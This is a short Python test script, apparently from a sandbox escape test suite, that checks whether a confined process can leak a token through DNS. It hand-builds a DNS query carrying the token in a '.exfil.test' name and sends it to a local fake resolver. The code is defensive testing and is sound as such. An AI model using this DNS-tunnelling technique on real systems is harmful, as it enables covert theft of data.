# attack: dns_exfil
# flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
# setup: listener
# evidence: a DNS query whose name carries data (sandlock-TOKEN.exfil.test) is sent over UDP to the runner's fake resolver on 127.0.0.1
# escaped-if: grep -aq "sandlock-$TOKEN" "$EV/conn.udp"
import os, sys
EV = sys.argv[1]
A = dict(a.split("=", 1) for a in sys.argv[2:] if "=" in a)
os.write(1, b"ATTACK-STARTED\n")
import socket, struct
name = 'sandlock-%s.exfil.test' % A['token']
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
for label in name.split('.'):
    q += bytes([len(label)]) + label.encode()
q += b'\0' + struct.pack('>HH', 1, 1)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(q, ('127.0.0.1', int(A['udp'])))
except OSError as e:
    print('dns:', e, flush=True)
